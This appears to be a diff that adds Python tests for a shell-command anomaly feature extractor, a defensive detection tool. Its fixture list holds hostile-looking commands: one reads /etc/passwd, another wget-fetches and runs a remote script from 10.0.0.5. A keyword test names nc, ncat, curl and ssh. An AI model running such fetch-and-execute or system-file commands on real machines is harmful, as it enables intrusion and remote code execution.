@@ -0,0 +1,63 @@
+import numpy as np
+
+from anomaly_features import FEATURE_NAMES, extract_features, extract_features_matrix
+
+COMMANDS = [
+    "",
+    "ls -la",
+    "   leading and   trailing   ",
+    "cat /etc/passwd | grep root > /tmp/x; echo $?",
+    "wget http://10.0.0.5:8080/a.sh && chmod +x a.sh && ./a.sh",
+    "echo SGVsbG8gV29ybGQ= | base64 -d",
+    "tab\tseparated\ncommand\x0bparts",
+    "ünïcödé ²³ ΑΒΓ mixed",
+    None,
+]
+
+
+def test_feature_names_match_extract_features_order():
+    assert list(extract_features("ls").keys()) == FEATURE_NAMES
+
+
+def test_matrix_matches_per_command_extraction():
+    matrix = extract_features_matrix(COMMANDS)
+    assert matrix.shape == (len(COMMANDS), len(FEATURE_NAMES))
+    expected = np.array([list(extract_features(c).values()) for c in COMMANDS])
+    np.testing.assert_allclose(matrix, expected, rtol=0, atol=1e-12)
+
+
+def _reference_features(cmd):
+    """The original multi-pass extractor, kept here as the behavioural spec."""
+    from anomaly_features import SPECIAL_CHARS, SUSPICIOUS_KEYWORDS, shannon_entropy
+
+    cmd = cmd or ""
+    n = len(cmd)
+    return [
+        float(n),
+        float(max(0, len(cmd.split()) - 1)),
+        float(sum(1 for c in cmd if c in SPECIAL_CHARS)),
+        float(cmd.count('/')),
+        sum(1 for c in cmd if c.isdigit()) / n if n else 0.0,
+        shannon_entropy(cmd),
+        sum(1 for c in cmd if c.isupper()) / n if n else 0.0,
+        1.0 if any(k in cmd for k in SUSPICIOUS_KEYWORDS) else 0.0,
+    ]
+
+
+def test_single_pass_extractor_matches_reference():
+    for cmd in COMMANDS:
+        assert list(extract_features(cmd).values()) == _reference_features(cmd)
+
+
+def test_keyword_counts_and_extended_matrix():
+    from anomaly_features import KEYWORD_FEATURE_NAMES, SUSPICIOUS_KEYWORDS, feature_names, keyword_counts
+
+    counts = dict(zip(SUSPICIOUS_KEYWORDS, keyword_counts("ncat 1.2.3.4 | nc -l; curl x | curl y")))
+    assert counts["nc"] == 2 and counts["ncat"] == 1 and counts["curl"] == 2 and counts["ssh"] == 0
+
+    names = feature_names(include_keyword_counts=True)
+    assert names[len(FEATURE_NAMES):] == KEYWORD_FEATURE_NAMES
+    matrix = extract_features_matrix(COMMANDS, include_keyword_counts=True)
+    expected = np.array([list(extract_features(c, include_keyword_counts=True).values()) for c in COMMANDS])
+    assert matrix.shape == (len(COMMANDS), len(names))
+    np.testing.assert_allclose(matrix, expected, rtol=0, atol=1e-12)